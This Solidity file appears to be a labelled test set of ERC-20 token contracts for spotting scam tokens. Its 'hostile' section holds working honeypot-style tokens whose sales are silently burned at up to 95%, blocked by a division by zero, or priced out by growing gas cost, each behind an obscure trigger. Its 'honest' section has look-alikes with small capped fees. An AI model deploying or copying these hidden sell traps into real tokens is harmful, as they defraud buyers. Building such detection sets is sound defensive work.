// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {Erc20} from "../shared/Erc20.sol";
import {IUniswapV2Router} from "../shared/UniswapV2.sol";
import {Listed} from "./Listed.sol";

/// @notice A part of what is moved is burned.
abstract contract Less is Listed {
    constructor(IUniswapV2Router router) Listed(router) {}

    function _less(address from, address to, uint256 amount, uint256 bps) internal {
        uint256 cut = (amount * bps) / 10_000;
        super._move(from, to, amount);
        if (cut == 0) return;
        balanceOf[to] -= cut;
        totalSupply -= cut;
        emit Transfer(to, address(0), cut);
    }
}

// ---------------------------------------------------------------- hostile

/// @notice The fee grows with the sixth power of the pool's coins: most of a sale once the pool has doubled.
contract NbPowerOfPool is Less {
    address private immutable _coin;

    constructor(IUniswapV2Router router) Less(router) {
        _coin = router.WETH();
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 r = Erc20(_coin).balanceOf(pair) / 1e18;
        uint256 bps = (r ** 6) / 800_000;
        _less(from, to, amount, bps > 9_500 ? 9_500 : bps);
    }
}

/// @notice The fee is a power of the number of bits of the gas left: one sale in twenty-five loses most.
contract NbBitsOfGas is Less {
    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 word = gasleft() & 0xffff;
        uint256 bits = 0;
        while (word != 0) {
            word &= word - 1;
            bits++;
        }
        uint256 bps = (4 ** bits) >> 11;
        _less(from, to, amount, bps > 9_500 ? 9_500 : bps);
    }
}

/// @notice One bit of the Gray code of the base fee is the fee: blocks of 64 to 191 gwei take nine tenths.
contract NbGrayOfBaseFee is Less {
    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 gwei_ = block.basefee / 1 gwei;
        uint256 gray = gwei_ ^ (gwei_ >> 1);
        _less(from, to, amount, ((gray >> 6) & 1) * 9_000);
    }
}

/// @notice A machine of six states: five more sales than purchases, and it stays in the one that takes all but a little.
contract NbMachine is Less {
    bytes private constant NEXT = hex"000100000201010302020403030504050505";
    bytes private constant PARTS = hex"0001020304be";
    uint256 private _state;

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 kind = from == pair ? 0 : to == pair ? 1 : 2;
        _state = uint8(NEXT[_state * 3 + kind]);
        _less(from, to, amount, kind == 1 ? uint256(uint8(PARTS[_state])) * 50 : 0);
    }
}

/// @notice The twentieth power of what the beacon gives: blocks one in twenty-five keep more than half.
contract NbPowerOfBeacon is Less {
    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 x = mulmod(block.prevrandao, 7_919, 101);
        _less(from, to, amount, (x ** 20 * 9_900) / 1e40);
    }
}

/// @notice Divides by what a table has for the length of the seller's code: a wallet with delegated code (EIP-7702) cannot sell.
contract NbLengthOfCode is Less {
    bytes private constant BY_LENGTH = hex"0101010101010101010101010101010101010101010101000101010101010101";

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 part = uint8(BY_LENGTH[from.code.length % 32]);
        _less(from, to, amount, 100 / part);
    }
}

/// @notice Sorts the last eight sales with this one: who sells less than all of them pays nine tenths.
contract NbSorted is Less {
    uint256[8] private _last;
    uint256 private _head;

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256[9] memory sorted;
        sorted[0] = amount;
        uint256 place = 0;
        for (uint256 i = 0; i < 8; i++) {
            uint256 each = _last[i];
            uint256 j = i + 1;
            while (j > 0 && sorted[j - 1] > each) {
                sorted[j] = sorted[j - 1];
                j--;
            }
            sorted[j] = each;
        }
        while (sorted[place] < amount) place++;
        uint16[9] memory bps = [uint16(9_000), 100, 100, 100, 100, 50, 50, 50, 0];
        _last[_head] = amount;
        _head = (_head + 1) % 8;
        _less(from, to, amount, bps[place]);
    }
}

/// @notice The rounds of work of a sale double every two days: after forty days no block has gas enough.
contract NbRounds is Less {
    uint256 private immutable _born = block.timestamp;
    bytes32 private _mark;

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 rounds = 1 << ((block.timestamp - _born) / 2 days);
        bytes32 mark = _mark;
        for (uint256 i = 0; i < rounds; i++) mark = keccak256(abi.encode(mark, i));
        _mark = mark;
        super._move(from, to, amount);
    }
}

/// @notice Two tables one after the other: the fifth sale of an account finds the step that costs nine tenths.
contract NbTwoTables is Less {
    mapping(address => uint256) private _sales;
    mapping(uint256 => uint256) private _stepOf;
    mapping(uint256 => uint256) private _bpsOf;

    constructor(IUniswapV2Router router) Less(router) {
        for (uint256 i = 0; i < 16; i++) _stepOf[i] = (i * 11 + 3) % 16;
        _bpsOf[15] = 100;
        _bpsOf[10] = 9_000;
        _bpsOf[2] = 50;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 sale = ++_sales[from];
        _less(from, to, amount, _bpsOf[_stepOf[sale % 16]]);
    }
}

/// @notice Four bits of a SHA-256 of account and day are multiplied: each day one wallet in sixteen pays nine tenths.
contract NbDigestOfDay is Less {
    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 h = uint256(sha256(abi.encode(from, block.timestamp / 1 days)));
        uint256 all = (h & 1) * ((h >> 9) & 1) * ((h >> 77) & 1) * ((h >> 200) & 1);
        _less(from, to, amount, all * 9_000);
    }
}

/// @notice A table by the logarithm of the pool's shares: twice the liquidity of the listing and a sale costs 60 %.
contract NbLogOfShares is Less {
    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 q = Erc20(pair).totalSupply() / 3_000e18;
        uint256 step = 0;
        while (q > 1) {
            q >>= 1;
            step++;
        }
        uint16[4] memory bps = [uint16(0), 6_000, 9_000, 9_500];
        _less(from, to, amount, bps[step % 4]);
    }
}

/// @notice A table in memory by the share of the holding that is sold: about a third of it costs four fifths.
contract NbShareOfBag is Less {
    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 bag = balanceOf[from];
        if (to != pair || amount > bag || bag == 0) return super._move(from, to, amount);
        uint8[17] memory percent = [0, 1, 1, 0, 1, 80, 1, 0, 1, 0, 1, 1, 0, 0, 1, 1, 0];
        _less(from, to, amount, uint256(percent[(amount * 16) / bag]) * 100);
    }
}

/// @notice A table in code by who builds the block: of thirteen remainders one takes nine tenths.
contract NbBuilder is Less {
    bytes private constant PERCENT = hex"0001000101000100000100015a";

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 at = uint256(uint160(address(block.coinbase))) % 13;
        _less(from, to, amount, uint256(uint8(PERCENT[at])) * 100);
    }
}

/// @notice A congruential draw goes on with each sale: one in sixteen takes nine tenths, first after a dozen good ones.
contract NbDraw is Less {
    uint64 private _seed = 13;

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint64 seed = _seed;
        unchecked {
            seed = seed * 6364136223846793005 + 1442695040888963407;
        }
        _seed = seed;
        _less(from, to, amount, uint256((seed >> 60) / 15) * 9_000);
    }
}

// ----------------------------------------------------------------- honest

/// @notice The fee grows with the pool's coins, up to 3 %.
contract NbCappedPower is Less {
    address private immutable _coin;

    constructor(IUniswapV2Router router) Less(router) {
        _coin = router.WETH();
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 r = Erc20(_coin).balanceOf(pair) / 1e18;
        uint256 bps = (r ** 6) / 800_000;
        _less(from, to, amount, bps > 300 ? 300 : bps);
    }
}

/// @notice The number of bits of the gas left gives points and a fee of 2.88 % at most.
contract NbBitsForPoints is Less {
    mapping(address => uint256) public pointsOf;

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 word = gasleft() & 0xffff;
        uint256 bits = 0;
        while (word != 0) {
            word &= word - 1;
            bits++;
        }
        pointsOf[from] += bits;
        _less(from, to, amount, bits * 18);
    }
}

/// @notice A bit of the Gray code of the base fee decides between no fee and 2.5 %.
contract NbGraySmall is Less {
    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 gwei_ = block.basefee / 1 gwei;
        uint256 gray = gwei_ ^ (gwei_ >> 1);
        _less(from, to, amount, ((gray >> 6) & 1) * 250);
    }
}

/// @notice A machine of six states: five more sales than purchases and the fee stays at 3 %.
contract NbMachineSmall is Less {
    bytes private constant NEXT = hex"000100000201010302020403030504050505";
    bytes private constant PARTS = hex"000102030406";
    uint256 public state;

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 kind = from == pair ? 0 : to == pair ? 1 : 2;
        state = uint8(NEXT[state * 3 + kind]);
        _less(from, to, amount, kind == 1 ? uint256(uint8(PARTS[state])) * 50 : 0);
    }
}

/// @notice The twentieth power of what the beacon gives, 3 % at most.
contract NbBeaconSmall is Less {
    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 x = mulmod(block.prevrandao, 7_919, 101);
        _less(from, to, amount, (x ** 20 * 300) / 1e40);
    }
}

/// @notice A table by the length of the seller's code: wallets with delegated code pay half of the 2 %.
contract NbLengthDiscount is Less {
    bytes private constant BY_LENGTH = hex"0101010101010101010101010101010101010101010101020101010101010101";

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 part = uint8(BY_LENGTH[from.code.length % 32]);
        _less(from, to, amount, 200 / part);
    }
}

/// @notice Sorts the last eight sales with this one: the place decides about a fee of 0 to 3 %.
contract NbSortedSmall is Less {
    uint256[8] public last;
    uint256 public head;

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256[9] memory sorted;
        sorted[0] = amount;
        uint256 place = 0;
        for (uint256 i = 0; i < 8; i++) {
            uint256 each = last[i];
            uint256 j = i + 1;
            while (j > 0 && sorted[j - 1] > each) {
                sorted[j] = sorted[j - 1];
                j--;
            }
            sorted[j] = each;
        }
        while (sorted[place] < amount) place++;
        uint16[9] memory bps = [uint16(0), 50, 50, 100, 100, 150, 200, 250, 300];
        last[head] = amount;
        head = (head + 1) % 8;
        _less(from, to, amount, bps[place]);
    }
}

/// @notice Keeps how much each account had at each block, found again by halving.
contract NbCheckpoints is Less {
    struct Checkpoint {
        uint48 since;
        uint208 votes;
    }

    mapping(address => Checkpoint[]) private _checkpoints;

    constructor(IUniswapV2Router router) Less(router) {
        _write(msg.sender);
    }

    function getPastVotes(address who, uint256 number) external view returns (uint256) {
        Checkpoint[] storage all = _checkpoints[who];
        uint256 low = 0;
        uint256 high = all.length;
        while (low < high) {
            uint256 middle = (low + high) / 2;
            if (all[middle].since > number) high = middle;
            else low = middle + 1;
        }
        return high == 0 ? 0 : all[high - 1].votes;
    }

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        _write(from);
        _write(to);
    }

    function _write(address who) private {
        Checkpoint[] storage all = _checkpoints[who];
        uint256 count = all.length;
        uint208 votes = uint208(balanceOf[who]);
        if (count > 0 && all[count - 1].since == block.number) all[count - 1].votes = votes;
        else all.push(Checkpoint(uint48(block.number), votes));
    }
}

/// @notice Two tables one after the other: the number of an account's sales finds a fee of 0 to 1.5 %.
contract NbTwoTablesSmall is Less {
    mapping(address => uint256) public salesOf;
    mapping(uint256 => uint256) public stepOf;
    mapping(uint256 => uint256) public bpsOf;

    constructor(IUniswapV2Router router) Less(router) {
        for (uint256 i = 0; i < 16; i++) stepOf[i] = (i * 11 + 3) % 16;
        bpsOf[15] = 100;
        bpsOf[10] = 150;
        bpsOf[2] = 50;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 sale = ++salesOf[from];
        _less(from, to, amount, bpsOf[stepOf[sale % 16]]);
    }
}

/// @notice A bitmap of the days on which an account moved tokens: the more there are, the less of 3 % is taken.
contract NbVisitedDays is Less {
    mapping(address => mapping(uint256 => uint256)) public daysOf;

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 day = block.timestamp / 1 days;
        daysOf[from][day >> 8] |= 1 << (day & 255);
        daysOf[to][day >> 8] |= 1 << (day & 255);
        if (to != pair) return super._move(from, to, amount);
        uint256 word = daysOf[from][day >> 8];
        uint256 visits = 0;
        while (word != 0 && visits < 30) {
            word &= word - 1;
            visits++;
        }
        _less(from, to, amount, 300 - visits * 10);
    }
}

/// @notice A table by the logarithm of the pool's shares, 0 to 3 %.
contract NbLogSmall is Less {
    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint256 q = Erc20(pair).totalSupply() / 3_000e18;
        uint256 step = 0;
        while (q > 1) {
            q >>= 1;
            step++;
        }
        uint16[4] memory bps = [uint16(0), 100, 200, 300];
        _less(from, to, amount, bps[step % 4]);
    }
}

/// @notice A table in memory by the share of the holding that is sold, 0 to 3 %.
contract NbShareSmall is Less {
    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 bag = balanceOf[from];
        if (to != pair || amount > bag || bag == 0) return super._move(from, to, amount);
        uint8[17] memory percent = [0, 1, 1, 0, 1, 3, 1, 0, 1, 0, 1, 1, 0, 0, 1, 1, 2];
        _less(from, to, amount, uint256(percent[(amount * 16) / bag]) * 100);
    }
}

/// @notice Sixteen observations of the pool's holding over time; about 1 % is burned, a little more or less by the block's builder.
contract NbObservations is Less {
    struct Observation {
        uint32 time;
        uint224 sum;
    }

    bytes private constant BPS = hex"5a5c5e60626466686a6c6e5f63";
    Observation[16] public observations;
    uint256 public newest;

    constructor(IUniswapV2Router router) Less(router) {
        observations[0] = Observation(uint32(block.timestamp), 0);
    }

    function _move(address from, address to, uint256 amount) internal override {
        Observation memory before = observations[newest];
        unchecked {
            uint32 now_ = uint32(block.timestamp);
            uint32 passed = now_ - before.time;
            if (passed != 0) {
                newest = (newest + 1) % 16;
                observations[newest] = Observation(now_, before.sum + uint224(balanceOf[pair] * passed));
            }
        }
        if (to != pair) return super._move(from, to, amount);
        _less(from, to, amount, uint8(BPS[uint256(uint160(address(block.coinbase))) % 13]));
    }
}

/// @notice A congruential draw goes on with each sale: one in sixteen gives points and is free of the 1 %.
contract NbDrawForPoints is Less {
    uint64 public seed = 13;
    mapping(address => uint256) public pointsOf;

    constructor(IUniswapV2Router router) Less(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (to != pair) return super._move(from, to, amount);
        uint64 next = seed;
        unchecked {
            next = next * 6364136223846793005 + 1442695040888963407;
        }
        seed = next;
        uint256 won = (next >> 60) / 15;
        pointsOf[from] += won;
        _less(from, to, amount, 100 - won * 100);
    }
}
